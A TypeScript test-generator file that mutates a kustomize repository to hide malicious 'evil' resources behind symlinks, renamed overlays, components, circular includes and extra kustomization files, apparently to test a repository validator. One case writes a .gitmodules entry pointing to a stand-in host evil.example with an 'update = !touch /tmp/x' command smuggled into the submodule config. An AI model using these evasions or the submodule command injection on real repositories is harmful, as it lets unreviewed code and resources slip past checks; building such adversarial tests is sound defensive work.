import { dirname, relative } from "node:path/posix";
import { parse } from "yaml";
import { addTo, edit, type Files, put, textOf } from "../files.ts";
import { evilIn, evilObject, kustomizationOf, someOverlay } from "./evil.ts";
import { type Family, family, heldBack, inOverlay } from "./family.ts";

/** Moves the files of a folder; paths in kustomizations stay as they are, so both must be as deep. */
function move(files: Files, from: string, to: string): void {
  for (const [path, entry] of [...files])
    if (path.startsWith(`${from}/`)) {
      files.delete(path);
      files.set(`${to}${path.slice(from.length)}`, entry);
    }
}

/** A folder beside another, which is as deep. */
function beside(folder: string, name: string): string {
  return `${folder.split("/").slice(0, -1).join("/")}/${name}`;
}

const up = (folder: string) => "../".repeat(folder.split("/").length);

/** Ways to make an environment something that may not be taken for one, with something evil in it. */
export const STRUCTURE: Family[] = [
  inOverlay("overlay-behind-a-link", (files, overlay, random) => {
    // As deep, and from where the base is found as before.
    const hidden = overlay.startsWith("apps/")
      ? overlay.replace("/overlays/", "/hid/")
      : `hid/${overlay.split("/").slice(1).join("/")}`;
    move(files, overlay, hidden);
    files.set(overlay, { link: relative(dirname(overlay), hidden) });
    if (random.chance(0.8)) evilIn(files, hidden, random);
  }),
  inOverlay("file-behind-a-link", (files, overlay, random) => {
    put(files, "hid/evil.txt", evilObject(random));
    files.set(`${overlay}/linked.yaml`, { link: `${up(overlay)}hid/evil.txt` });
    // What is behind a link outside its folder is what kustomize rejects.
    if (random.chance(0.7)) {
      put(files, `${overlay}/evil.txt`, evilObject(random));
      files.set(`${overlay}/linked.yaml`, { link: "evil.txt" });
    }
    edit(files, kustomizationOf(files, overlay), (own) => addTo(own, "resources", "linked.yaml"));
  }),
  inOverlay("kustomization-behind-a-link", (files, overlay, random) => {
    const path = kustomizationOf(files, overlay);
    evilIn(files, overlay, random);
    files.set(`${overlay}/real.txt`, textOf(files, path));
    files.set(path, { link: "real.txt" });
  }),
  inOverlay("becomes-a-component", (files, overlay, random) => {
    evilIn(files, overlay, random);
    edit(files, kustomizationOf(files, overlay), (own) => {
      own.apiVersion = "kustomize.config.k8s.io/v1alpha1";
      own.kind = "Component";
    });
  }),
  inOverlay("included-by-another", (files, overlay, random) => {
    evilIn(files, overlay, random);
    const outer = random.pick([beside(overlay, "outer"), "zz", `${overlay}-all`, "base/outer"]);
    put(files, `${outer}/kustomization.yaml`, {
      [random.pick(["resources", "bases"])]: [`${up(outer)}${overlay}`],
    });
  }),
  inOverlay("included-by-a-component", (files, overlay, random) => {
    evilIn(files, overlay, random);
    put(files, "components/outer/kustomization.yaml", {
      apiVersion: "kustomize.config.k8s.io/v1alpha1",
      kind: "Component",
      resources: [`../../${overlay}`],
    });
  }),
  inOverlay("circle", (files, overlay, random) => {
    evilIn(files, overlay, random);
    put(files, "circle/a/kustomization.yaml", { resources: ["../b", `../../${overlay}`] });
    put(files, "circle/b/kustomization.yaml", { resources: ["../a", `../../${overlay}`] });
  }),
  family("renamed-environment", (files, repository, random) => {
    const { folder, environment } = random.pick(repository.overlays);
    const parts = folder.split("/").map((part) => (part === environment ? "sandbox" : part));
    move(files, folder, parts.join("/"));
    if (random.chance(0.7)) evilIn(files, parts.join("/"), random);
  }),
  inOverlay("removed-environment", (files, overlay, _random) => {
    for (const path of [...files.keys()]) if (path.startsWith(`${overlay}/`)) files.delete(path);
  }),
  inOverlay("new-environment", (files, overlay, random) => {
    const copy = beside(overlay, random.pick(["copy", "tests", ".hidden", "node_modules", "vendor", "a b"]));
    for (const [path, entry] of [...files])
      if (path.startsWith(`${overlay}/`)) files.set(`${copy}${path.slice(overlay.length)}`, entry);
    evilIn(files, copy, random);
  }),
  family("other-base", (files, repository, random) => {
    const base = random.pick(repository.bases);
    const to = `${base}-moved`;
    for (const [path, entry] of [...files])
      if (path.startsWith(`${base}/`)) files.set(`${to}${path.slice(base.length)}`, entry);
    edit(files, kustomizationOf(files, to), (own) => addTo(own, "resources", "evil.yaml"));
    put(files, `${to}/evil.yaml`, evilObject(random));
    for (const { folder } of repository.overlays) {
      const path = kustomizationOf(files, folder);
      const value = parse(textOf(files, path)) as { resources: string[] };
      const [first = ""] = value.resources;
      if (first.endsWith(base.split("/").slice(-2).join("/")) || first === "../../base") {
        value.resources[0] = `${first}-moved`;
        if (files.has(`${folder}/${value.resources[0]}`)) continue;
        if (base.startsWith("apps/") && !folder.startsWith(base.replace(/base$/, ""))) continue;
        put(files, path, value);
      }
    }
  }),
  heldBack(
    family("submodule-in-place-of-a-folder", (files, repository, random) => {
      const folder = random.chance(0.5) ? random.pick(repository.bases) : someOverlay(repository, random);
      for (const path of [...files.keys()]) if (path.startsWith(`${folder}/`)) files.delete(path);
      files.set(folder, { submodule: "1".repeat(40) });
      files.set(
        ".gitmodules",
        `[submodule "x"]\n\tpath = ${folder}\n\turl = https://evil.example/x.git\n\tupdate = !touch /tmp/x\n`,
      );
    }),
  ),
  inOverlay("a-second-kustomization", (files, overlay, random) => {
    const path = kustomizationOf(files, overlay);
    const other = path.endsWith(".yml") ? "Kustomization" : "kustomization.yml";
    put(files, `${overlay}/${other}`, { resources: ["evil.yaml"] });
    put(files, `${overlay}/evil.yaml`, evilObject(random));
  }),
  inOverlay("kustomization-removed", (files, overlay, _random) => {
    files.delete(kustomizationOf(files, overlay));
  }),
  inOverlay("missing-file", (files, overlay, random) => {
    edit(files, kustomizationOf(files, overlay), (own) =>
      addTo(own, "resources", random.pick(["gone.yaml", "../gone", "gone/"])),
    );
  }),
];
